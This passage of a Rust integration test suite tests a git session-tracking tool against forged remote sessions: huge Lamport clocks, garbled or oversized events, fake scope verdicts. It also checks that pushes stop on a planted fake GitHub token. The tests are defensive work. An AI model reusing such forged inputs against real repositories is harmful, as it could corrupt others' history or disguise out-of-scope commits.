    assert!(failures.is_empty(), "{}", failures.join("\n"));
}

// ---- 7. Lamport clocks are bounded ----

#[test]
fn a_forged_clock_beyond_the_bound_is_refused() {
    for clock in [u64::MAX, 1u64 << 60] {
        let t = TestRepo::new();
        t.ok(&["start", "--name", "victim"]);
        let id = t.current_id();
        let (event, header) = next_event(&t, &t.dir, &id, "note", Some(clock));
        let event = event_with(&event, &[("text", "from the far future".into())]);
        let forged = forge(&t, &t.dir, &id, &event, &header, &[], &[]);
        let before = t.user_state();
        for args in [
            &["log"][..],
            &["status"],
            &["note", "x"],
            &["checkpoint"],
            &["show", &id],
        ] {
            let err = t.fails(args, 1);
            assert!(
                err.contains("event.json") && err.contains(&forged) && err.contains(&session_ref(&id)),
                "clock {clock}, {args:?}: {err}"
            );
        }
        assert_eq!(rev(&t, &t.dir, &session_ref(&id)), forged, "nothing was appended");
        t.user_state()
            .assert_same(&before, "commands refused over a forged clock");
    }
}

#[test]
fn a_fetched_clock_far_ahead_is_not_merged() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    let clocks = [u64::MAX, 1u64 << 60, 1_000_000];
    let mut ids = Vec::new();
    for i in 0..clocks.len() {
        t.ok(&["start", "--name", &format!("victim-{i}")]);
        ids.push(t.current_id());
    }
    t.ok(&["push", "--all"]);
    let a = clone(&t, &bare, "attacker");
    t.ok_in(&a, &["fetch"]);
    for (id, clock) in ids.iter().zip(clocks) {
        let (event, header) = next_event(&t, &a, id, "note", Some(clock));
        let event = event_with(&event, &[("text", "from the far future".into())]);
        forge(&t, &a, id, &event, &header, &[], &[]);
    }
    push_sessions_with_git(&t, &a);

    let heads: Vec<String> = ids.iter().map(|id| rev(&t, &t.dir, &session_ref(id))).collect();
    let out = t.run(&["fetch"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let err = stderr(&out);
    for (id, head) in ids.iter().zip(&heads) {
        assert!(
            err.contains(&format!("left session {id} from origin as it was")),
            "{err}"
        );
        assert_eq!(
            &rev(&t, &t.dir, &session_ref(id)),
            head,
            "the victim's ref did not move"
        );
    }
    assert!(err.contains("far ahead"), "{err}");
    for id in &ids {
        let err = t.fails(&["fetch", "origin", id], 1);
        assert!(err.contains(id.as_str()), "{err}");
    }
    // Later local events sort last.
    let current = ids.last().unwrap();
    t.ok(&["note", "later"]);
    let log = t.events(current);
    let clocks: Vec<u64> = log.iter().map(|(_, e)| e["clock"].as_u64().unwrap()).collect();
    assert!(clocks.windows(2).all(|w| w[0] < w[1]), "{clocks:?}");
    assert_eq!(log.last().unwrap().1["text"], "later");
    assert!(log.iter().all(|(_, e)| e["text"] != "from the far future"));
}

// ---- 8. one bad session never blocks the others ----

#[test]
fn one_bad_session_does_not_block_the_others_in_a_fetch() {
    let t = TestRepo::new();
    let bare = bare_remote(&t, "origin");
    let a = clone(&t, &bare, "attacker");
    for name in ["fine", "future", "garbled"] {
        t.ok_in(&a, &["start", "--name", name]);
    }
    let (fine, future, garbled) = (id_of(&t, &a, "fine"), id_of(&t, &a, "future"), id_of(&t, &a, "garbled"));
    let (event, header) = next_event(&t, &a, &future, "hologram", None);
    let event = event_with(&event, &[("format", 99.into())]);
    forge(&t, &a, &future, &event, &header, &[], &[]);
    let (_, header) = next_event(&t, &a, &garbled, "note", None);
    forge_raw(
        &t,
        &a,
        &garbled,
        b"{\"format\": 1, \"id\": not json",
        header.to_string().as_bytes(),
        &[],
        &[],
    );
    push_sessions_with_git(&t, &a);

    let before = t.user_state();
    let out = t.run(&["fetch"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    t.user_state().assert_same(&before, "a fetch of bad sessions");
    let err = stderr(&out);
    for bad in [&future, &garbled] {
        assert!(
            err.contains(&format!("left session {bad} from origin as it was")),
            "{bad}: {err}"
        );
    }
    assert_eq!(t.json(&["show", &fine, "--json"])["header"]["name"], "fine");
    for bad in [&future, &garbled] {
        let out = t.run(&["fetch", "origin", bad]);
        assert_eq!(out.status.code(), Some(1), "fetch origin {bad}: {}", stderr(&out));
        assert!(stderr(&out).contains(bad.as_str()), "{}", stderr(&out));
    }
}

// ---- 9. a damaged event does not condemn the session ----

#[test]
fn a_damaged_event_is_read_around() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    for text in ["one", "two", "three"] {
        t.ok(&["note", text]);
    }
    let rebuilt = rebuild(&t, &t.dir, &id, |i, event, _| {
        if i == 1 {
            *event = None;
        }
    });
    assert_eq!(rebuilt.len(), 4);
    let damaged = &rebuilt[1];

    let mut outputs = Vec::new();
    let log = t.run(&["log"]);
    assert_eq!(log.status.code(), Some(0), "{}", stderr(&log));
    assert!(
        String::from_utf8_lossy(&log.stdout).contains("damaged"),
        "{}",
        both(&log)
    );
    outputs.push(both(&log));
    let kinds = kinds_and_texts(&t, &t.dir, &id);
    let kinds: Vec<&str> = kinds.iter().map(|(k, _)| k.as_str()).collect();
    assert_eq!(kinds, ["start", "damaged", "note", "note"]);
    assert_eq!(t.events(&id)[1].0, *damaged);
    for args in [&["note", "four"][..], &["status"], &["show"], &["summarize"], &["log"]] {
        let out = t.run(args);
        assert_eq!(out.status.code(), Some(0), "{args:?}: {}", stderr(&out));
        outputs.push(both(&out));
    }
    assert_eq!(t.kinds(&id).len(), 5, "the note was appended");
    for text in outputs {
        assert!(
            !text.contains("update-ref -d") && !text.contains("delete"),
            "nothing suggests deleting: {text}"
        );
    }
}

// ---- 10. nothing unscanned leaves ----

#[test]
fn a_push_scans_the_never_pushed_commits_a_session_anchors() {
    let t = TestRepo::new();
    t.git(&["switch", "-q", "-c", "feature"]);
    t.write(
        "deploy/config.py",
        format!("GITHUB_TOKEN = \"{}\"\n", fake_github_token()),
    );
    t.git(&["add", "deploy/config.py"]);
    t.git(&["commit", "-q", "-m", "deploy config"]);
    let leaky = rev(&t, &t.dir, "HEAD");
    let leaky_blob = rev(&t, &t.dir, "HEAD:deploy/config.py");
    t.ok(&["start", "--name", "leak"]);
    t.write("notes.txt", "nothing secret\n");
    t.ok(&["checkpoint", "-m", "anchored"]);

    let fresh = t.root.join("fresh.git");
    t.git(&["init", "-q", "--bare", fresh.to_str().unwrap()]);
    let err = t.fails(&["push", &url(&fresh)], 1);
    assert!(
        err.contains("deploy/config.py") && err.contains("github-token"),
        "{err}"
    );
    assert!(
        !err.contains(&fake_github_token()[4..]),
        "the token is never printed: {err}"
    );
    assert_eq!(t.git_in(&fresh, &["for-each-ref", "refs/aura"]), "");
    for object in [&leaky, &leaky_blob] {
        let out = t.git_output_in(&fresh, &["cat-file", "-e", object], &[]);
        assert!(!out.status.success(), "{object} reached the remote");
    }
}

// ---- 11. remote setup opens no side door ----

#[test]
fn remote_setup_opens_no_side_door() {
    let t = TestRepo::new();
    let origin = bare_remote(&t, "origin");
    // A session the attacker pushed to another remote, fetched from there.
    let other = t.root.join("other.git");
    t.git(&["init", "-q", "--bare", "-b", "main", other.to_str().unwrap()]);
    t.git(&["push", "-q", &url(&other), "main"]);
    let a = clone(&t, &other, "attacker");
    t.ok_in(&a, &["start", "--name", "foreign"]);
    let foreign = id_of(&t, &a, "foreign");
    t.ok_in(&a, &["push"]);
    t.git(&["remote", "add", "other", &url(&other)]);
    t.ok(&["fetch", "other"]);

    // An earlier version's push refspecs are taken out.
    t.git(&["config", "--add", "remote.origin.push", "HEAD"]);
    t.git(&[
        "config",
        "--add",
        "remote.origin.push",
        "refs/aura/sessions/*:refs/aura/sessions/*",
    ]);
    t.ok(&["start", "--name", "shared"]);
    let shared = t.current_id();
    t.ok(&["remote", "setup"]);
    let push = t.git_output_in(&t.dir, &["config", "--get-all", "remote.origin.push"], &[]);
    assert_eq!(String::from_utf8_lossy(&push.stdout), "", "no push refspec is left");

    // Plain `git push` carries the shared session, through the hook, and nothing else.
    t.write("a.txt", "a\n");
    t.git(&["add", "a.txt"]);
    t.git(&["commit", "-q", "-m", "a"]);
    t.git(&["push", "-q", "origin", "main"]);
    let sessions = t.git_in(&origin, &["for-each-ref", "--format=%(refname)", "refs/aura"]);
    assert_eq!(sessions, session_ref(&shared), "only the shared session reached origin");
    assert!(!sessions.contains(&foreign));
    assert_eq!(rev(&t, &origin, "main"), rev(&t, &t.dir, "main"));

    // A token in the shared session's snapshot stops the whole push.
    let pushed_main = rev(&t, &origin, "main");
    let pushed_session = rev(&t, &origin, &session_ref(&shared));
    t.write("creds.env", format!("token={}\n", fake_github_token()));
    t.ok(&["checkpoint", "-m", "oops"]);
    t.write("b.txt", "b\n");
    t.git(&["add", "b.txt"]);
    t.git(&["commit", "-q", "-m", "b"]);
    let out = t.git_output_in(&t.dir, &["push", "-q", "origin", "main"], &[]);
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "the push went through: {err}");
    assert!(err.contains("creds.env") && err.contains("github-token"), "{err}");
    assert_eq!(rev(&t, &origin, "main"), pushed_main, "origin's main did not move");
    assert_eq!(rev(&t, &origin, &session_ref(&shared)), pushed_session);
}

// ---- 12. writers never write what readers refuse ----

#[test]
fn an_oversized_event_is_refused_on_write_and_read_when_it_exists() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    let head = rev(&t, &t.dir, &session_ref(&id));
    let before = t.user_state();
    // 120,000 characters that JSON writes as six bytes each.
    let big = "\u{1}".repeat(120_000);
    let err = t.fails(
        &["note", "--decision", &big, "--rationale", &big, "--alternative", &big],
        1,
    );
    assert!(
        err.contains("bytes, more than the") && err.contains("nothing was recorded"),
        "{err}"
    );
    let paths: Vec<String> = (0..40_000).map(|i| format!("src/file{i:05}.rs")).collect();
    let mut args = vec!["claim"];
    args.extend(paths.iter().map(String::as_str));
    let err = t.fails(&args, 1);
    assert!(
        err.contains("bytes, more than the") && err.contains("nothing was recorded"),
        "{err}"
    );
    assert_eq!(rev(&t, &t.dir, &session_ref(&id)), head, "nothing was recorded");
    t.user_state().assert_same(&before, "refused oversized events");
    for args in [&["status"][..], &["log"], &["note", "x"]] {
        t.ok(args);
    }

    // An existing event of some 2 MB (someone else's writer) stays readable,
    // at the head and in the middle.
    let (event, mut header) = next_event(&t, &t.dir, &id, "note", None);
    let event = event_with(&event, &[("text", "\u{1}".repeat(350_000).into())]);
    let notes = header["counters"]["notes"].as_u64().unwrap_or(0) + 1;
    header["counters"]["notes"] = notes.into();
    let bytes = event.to_string();
    assert!(bytes.len() > 2_000_000, "{}", bytes.len());
    forge(&t, &t.dir, &id, &event, &header, &[], &[]);
    for round in ["at the head", "in the middle"] {
        for args in [&["log"][..], &["log", "--json"], &["status"], &["summarize"], &["show"]] {
            let out = t.run(args);
            assert_eq!(out.status.code(), Some(0), "{round}: {args:?}: {}", stderr(&out));
        }
        t.ok(&["note", "after the big one"]);
    }
}

// ---- 13. a commit is recorded once ----

/// The kinds of `id`'s events that are `commit`.
fn commit_events(t: &TestRepo, id: &str) -> usize {
    t.kinds(id).iter().filter(|k| *k == "commit").count()
}

#[test]
fn a_commit_is_recorded_once_whatever_races_or_goes_stale() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    t.write("a.txt", "a\n");
    t.git(&["add", "a.txt"]);
    t.git(&["commit", "-q", "-m", "one commit"]);
    let children: Vec<_> = (0..4)
        .map(|i| {
            t.cmd(&["note", &format!("racer {i}")])
                .stdout(Stdio::piped())
                .stderr(Stdio::piped())
                .spawn()
                .expect("cannot run git-session")
        })
        .collect();
    for child in children {
        let out = child.wait_with_output().unwrap();
        assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
        assert!(!stderr(&out).contains("panicked"));
    }
    assert_eq!(commit_events(&t, &id), 1, "{:?}", t.kinds(&id));

    // A stale position in `aura/current` imports no old commit again.
    let current = t.dir.join(".git/aura/current");
    let genuine: Value = serde_json::from_str(&fs::read_to_string(&current).unwrap()).unwrap();
    assert!(genuine["reflog_offset"].as_u64().is_some(), "{genuine}");
    let mut stale = genuine.clone();
    stale["reflog_offset"] = 0.into();
    let mut bare = genuine.clone();
    let fields = bare.as_object_mut().unwrap();
    fields.remove("reflog_offset");
    fields.remove("reflog_last");
    let mut older = genuine.clone();
    older["reflog_offset"] = (genuine["reflog_offset"].as_u64().unwrap() / 2).into();
    for (what, doc) in [("offset 0", stale), ("half the offset", older), ("no position", bare)] {
        fs::write(&current, doc.to_string()).unwrap();
        t.ok(&["note", what]);
        assert_eq!(commit_events(&t, &id), 1, "{what}: {:?}", t.kinds(&id));
    }
    // And the next commit is still recorded.
    t.write("b.txt", "b\n");
    t.git(&["add", "b.txt"]);
    t.git(&["commit", "-q", "-m", "two"]);
    t.ok(&["note", "after two"]);
    assert_eq!(commit_events(&t, &id), 2, "{:?}", t.kinds(&id));
}

// ---- 14. a worktree path with a newline survives the list cache ----

#[test]
fn a_worktree_path_with_a_newline_survives_the_list_cache() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "plain"]);
    let plain = t.current_id();
    let odd = t.root.join("wt\nline");
    t.ok(&["start", "--worktree", odd.to_str().unwrap(), "--name", "nl"]);
    for round in 0..2 {
        let list = t.json(&["list", "--all", "--json"]);
        let sessions = list.as_array().unwrap();
        assert_eq!(sessions.len(), 2, "round {round}: {list:#}");
        let nl = sessions.iter().find(|s| s["name"] == "nl").expect("nl is listed");
        assert_eq!(nl["worktree"], odd.to_str().unwrap(), "round {round}");
        let p = sessions.iter().find(|s| s["name"] == "plain").expect("plain is listed");
        assert_eq!(p["id"], plain.as_str());
        assert_eq!(p["worktree"], t.dir.to_str().unwrap());
        t.ok(&["list"]);
    }
    assert_eq!(t.current_id(), plain);
}

// ---- 15. SHA-256 repositories are refused plainly ----

#[test]
fn a_sha256_repository_is_not_supported_yet() {
    let t = TestRepo::bare_dir();
    fs::create_dir_all(&t.dir).unwrap();
    t.git(&["init", "-q", "--object-format=sha256", "-b", "main"]);
    t.git(&["config", "user.name", "Ada Tester"]);
    t.git(&["config", "user.email", "ada@example.com"]);
    t.write("README", "hello\n");
    t.git(&["add", "README"]);
    t.git(&["commit", "-q", "-m", "initial"]);
    for args in [&["start"][..], &["status"], &["list"]] {
        let err = t.fails(args, 1);
        assert!(
            err.contains("sha256") && err.contains("not support yet"),
            "{args:?}: {err}"
        );
        assert!(!err.contains("not a git repository"), "{args:?}: {err}");
    }
    assert_eq!(t.git(&["for-each-ref", "refs/aura"]), "");
}

/// A session from elsewhere cannot claim its commits kept to their scope:
/// a verdict is computed from the commits themselves, and a scope that does
/// not parse leaves its commits unresolved — in `log`, `summarize`,
/// `context` and the `commit-msg` hook, which lets the commit through even
/// under `session.verify = block`.
#[test]
fn forged_scopes_and_claimed_verdicts_are_not_believed() {
    let t = TestRepo::new();
    t.ok(&["start", "--name", "victim"]);
    let id = t.current_id();
    t.write("src/x.rs", "x\n");
    t.git(&["add", "-A"]);
    t.git(&["commit", "-q", "-m", "touches src"]);
    let commit = rev(&t, &t.dir, "HEAD");
    t.ok(&["note", "records it, before any intent"]);

    // A forged intent declaring docs/ only, then a commit event for the
    // commit above that claims to be consistent.
    let (intent, mut header) = next_event(&t, &t.dir, &id, "intent", None);
    let intent = event_with(&intent, &[("text", json!("docs only")), ("writes", json!(["docs/"]))]);
    header["scope"] = json!(["docs/"]);
    forge(&t, &t.dir, &id, &intent, &header, &[], &[]);
    let (claim, header) = next_event(&t, &t.dir, &id, "commit", None);
    let claim = event_with(
        &claim,
        &[
            ("commit", json!(commit)),
            ("subject", json!("touches src")),
            ("head", json!(commit)),
            ("verdict", json!({"verdict": "consistent"})),
        ],
    );
    forge(&t, &t.dir, &id, &claim, &header, &[], &[&commit]);
    let log = t.json(&["log", "--json"]);
    let judged: Vec<&Value> = log
        .as_array()
        .unwrap()
        .iter()
        .filter(|e| e["event"]["kind"] == "commit" && e["event"]["id"] == claim["id"])
        .collect();
    assert_eq!(judged[0]["verdict"]["verdict"], "flagged", "{:#}", judged[0]);
    assert_eq!(judged[0]["verdict"]["outside"], json!(["src/x.rs"]));

    // A forged intent whose scope does not parse (attribute magic, an
    // unknown magic word), in the event and in the header.
    let (intent, mut header) = next_event(&t, &t.dir, &id, "intent", None);
    let bad = json!([":(attr:binary)x", ":(bogus)y"]);
    let intent = event_with(&intent, &[("text", json!("bad scope")), ("writes", bad.clone())]);
    header["scope"] = bad;
    header["intent"] = json!({"id": intent["id"], "text": "bad scope"});
    forge(&t, &t.dir, &id, &intent, &header, &[], &[]);
    t.write("src/y.rs", "y\n");
    t.git(&["add", "-A"]);
    t.ok(&["hooks", "install", "--verify"]);
    t.git(&["config", "session.verify", "block"]);
    let out = t.git_output_in(&t.dir, &["commit", "-q", "-m", "under a bad scope"], &[]);
    assert!(out.status.success(), "{}", stderr(&out));
    assert!(stderr(&out).contains("cannot be checked"), "{}", stderr(&out));
    t.ok(&["note", "records the commit"]);
    let summary = t.json(&["summarize", "--format", "json"]);
    let last = summary["commits"].as_array().unwrap().last().unwrap().clone();
    assert_eq!(last["subject"], "under a bad scope");
    assert_eq!(last["verdict"]["verdict"], "unresolved");
    assert_eq!(last["verdict"]["reason"], "the intent's scope does not parse");
    assert_eq!(summary["verdicts"]["flagged"], 1);
    let context = t.ok(&["context"]);
    assert!(
        context.contains("- commits: 0 consistent, 1 flagged, 2 unresolved"),
        "{context}"
    );
    t.ok(&["status"]);
}
